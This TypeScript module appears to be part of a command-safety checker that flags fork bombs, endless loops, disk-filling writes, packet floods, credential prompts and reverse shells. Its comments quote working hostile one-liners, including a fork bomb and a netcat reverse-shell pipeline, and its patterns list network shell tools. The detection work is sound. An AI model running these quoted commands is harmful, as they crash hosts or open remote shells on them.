/**
 * Resource bombs and reverse shells (docs/risk.md, "The host taken down"): a fork bomb, endless
 * loops and writes filling the disk, a shell wired to a network program in one pipeline, and
 * interpreter code connecting a socket to a shell or forking without end.
 */
import type { RuleContext } from "../command/rule.js";
import type { ShellScript } from "../shell-model.js";
import type { Signals } from "../signals.js";
import { resolveInvocation, SHELLS } from "../wrappers.js";

/** `:(){ :|:& };:` — a function that pipes itself into itself in the background. */
export function forkBomb(text: string): boolean {
  if (!text.includes("()") || !text.includes("&")) return false;
  for (const match of text.matchAll(/([\w:.-]+)\s*\(\)\s*\{([^}]*)\}/g)) {
    const name = match[1]!.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
    if (new RegExp(`(^|[\\s;{(])${name}\\s*\\|\\s*${name}[\\s;&]`).test(match[2]!) && match[2]!.includes("&"))
      return true;
  }
  return false;
}

/**
 * A loop that never ends and never waits (`while :; do :& done`, `for ((;;)); do mkdir a; cd a;
 * done`): starting processes in the background, or creating and writing, without end. A loop
 * that sleeps, reads, waits, breaks or exits is a polling loop, not a bomb.
 */
export function endlessLoop(text: string): string | null {
  if (!/\b(while|until|for)\b/.test(text)) return null;
  const loop =
    /\b(?:while\s+(?:true|:|\[\s*1\s*\]|\(\(\s*1\s*\)\))|until\s+(?:false|!\s*:)|for\s*\(\(\s*;\s*;\s*\)\))\s*;?\s*do\b([\s\S]*?)\bdone\b/.exec(
      text,
    );
  if (!loop) return null;
  const body = loop[1]!;
  if (/\b(sleep|read|wait|break|exit|return|timeout|select)\b/.test(body)) return null;
  if (/(^|[^&])&(?!&|>)\s*(;|$|done|\n)/.test(body))
    return "starts processes in the background without end (a fork bomb)";
  if (/\b(mkdir|fallocate|dd|cp|tee)\b|>>?/.test(body))
    return "creates or writes without end (fills the disk)";
  return null;
}

/** Interpreter code connecting a socket and handing it a shell, or forking without end. */
export function judgeCodeHazards(code: string, signals: Signals): void {
  if (
    /(socket|fsockopen|TCPSocket|IO::Socket|net\.connect|new Socket|Net::TCP|stream_socket_client|\/inet[46]?\/(tcp|udp)\/)/i.test(
      code,
    ) &&
    /(\/bin\/(ba|z|da)?sh\b|\bsh\s+-i|dup2|subprocess|\bexec\s*[("'\s]|spawn|system\s*\(|popen|proc_open|cmd\.exe|powershell|\|&\s*getline)/i.test(
      code,
    )
  )
    signals.score.raise(
      "critical",
      "the code connects a socket to a shell (a reverse shell)",
      "network_request",
    );
  if (
    /\bfork\b[^\n]*\bwhile\b|\bwhile\b[^\n]*\n?[^\n]*\bfork\s*\(|fork\s+while\s+fork|for\s*\(\s*;\s*;\s*\)\s*\{?\s*fork|\bloop\s*(\{|do)\s*(Process\.)?fork\b/i.test(
      code,
    )
  )
    signals.score.raise("high", "the code forks processes without end (a fork bomb)");
  // a dialog asking for a password with the answer hidden: a credential prompt (phishing the user)
  if (/with\s+hidden\s+answer|password\s*:?\s*"\s*default\s+answer/i.test(code))
    signals.score.raise(
      "high",
      "the code asks the user for a password (a credential prompt)",
      "sensitive_file_access",
    );
}

/**
 * Pipelines that make a reverse shell (`cat /tmp/f | sh -i 2>&1 | nc host 4242 > /tmp/f`): an
 * interactive shell and a network program in one pipeline. Endless writes to a file (`yes >
 * f`, `cat /dev/urandom > f`, `dd if=/dev/zero of=f` without `count=`) fill the disk.
 */
/** A size of 10 GiB or more (`500G`, `1T`, `20GB`). */
function hugeSize(size: string): boolean {
  const match = /^(\d+(?:\.\d+)?)([KMGTP]?)i?B?$/i.exec(size);
  if (!match) return false;
  const scale =
    { "": 1, K: 2 ** 10, M: 2 ** 20, G: 2 ** 30, T: 2 ** 40, P: 2 ** 50 }[match[2]!.toUpperCase()] ?? 1;
  return Number(match[1]) * scale >= 10 * 2 ** 30;
}

export function judgeLineHazards(script: ShellScript, context: RuleContext): void {
  const { signals } = context;
  const pipelines = new Map<number, string[]>();
  for (const command of script.commands) {
    // only pipelines and redirections can make either hazard: most commands are neither
    const first = command.words[0]?.value ?? "";
    if (
      command.pipelineLength < 2 &&
      command.redirects.length === 0 &&
      !/^(dd|fallocate|mkfile|ping6?)$/.test(first) &&
      !command.words.some((word) => word.value === "--flood")
    )
      continue;
    const invocation = resolveInvocation(command);
    const list = pipelines.get(command.pipeline) ?? [];
    list.push(invocation.program);
    pipelines.set(command.pipeline, list);
    const args = invocation.args.map((word) => word.value);
    const toFile = command.redirects.some(
      (redirect) =>
        redirect.op.includes(">") &&
        redirect.target &&
        !/^(\/dev\/null|&?\d*-?)$/.test(redirect.target.value),
    );
    const endless =
      (invocation.program === "yes" && command.position === command.pipelineLength - 1 && toFile) ||
      (invocation.program === "cat" &&
        args.some((value) => /^\/dev\/(u?random|zero)$/.test(value)) &&
        toFile &&
        command.position === command.pipelineLength - 1) ||
      (invocation.program === "dd" &&
        args.some((value) => /^if=\/dev\/(u?random|zero)$/.test(value)) &&
        args.some((value) => /^of=(?!\/dev\/)/.test(value)) &&
        !args.some((value) => /^count=/.test(value))) ||
      // `head -c 500G /dev/zero > f`: a size no project file has (10 GiB or more)
      (invocation.program === "head" &&
        args.some((value) => /^\/dev\/(u?random|zero)$/.test(value)) &&
        toFile &&
        hugeSize(
          args[args.findIndex((value) => value === "-c" || value === "--bytes") + 1] ??
            args.find((value) => /^(-c|--bytes=)\d/.test(value))?.replace(/^(-c|--bytes=)/, "") ??
            "",
        ));
    if (endless) signals.score.raise("high", `${invocation.program} writes without end (fills the disk)`);
    // `fallocate -l 500G f`, `truncate -s 1T f` (then written): a size no project file has
    const size =
      /^(fallocate|truncate|mkfile)$/.test(invocation.program) &&
      (args[args.findIndex((value) => /^(-l|--length|-s|--size)$/.test(value)) + 1] ??
        args
          .find((value) => /^(--length=|--size=|-l|-s)\d/.test(value))
          ?.replace(/^(--length=|--size=|-l|-s)/, "") ??
        (invocation.program === "mkfile" ? args.find((value) => /^\d/.test(value)) : undefined));
    if (size && invocation.program !== "truncate" && hugeSize(size))
      signals.score.raise("high", `${invocation.program} ${size} fills the disk`);
    // `hping3 --flood`, `ping -f`: packets sent as fast as the link allows (a flood)
    if (
      args.includes("--flood") ||
      (/^(ping|ping6)$/.test(invocation.program) &&
        args.some((value) => /^-[a-zA-Z]*f[a-zA-Z]*$/.test(value)))
    )
      signals.score.raise("high", `${invocation.program} floods its target with packets`, "network_request");
  }
  for (const programs of pipelines.values()) {
    if (programs.length < 2) continue;
    const shell = programs.some((program) => SHELLS.has(program));
    const net = programs.some((program) => /^(nc|ncat|netcat|telnet|socat|openssl|cryptcat)$/.test(program));
    if (shell && net)
      signals.score.raise(
        "critical",
        "a shell wired to a network program in one pipeline (a reverse shell)",
        "network_request",
      );
  }
}
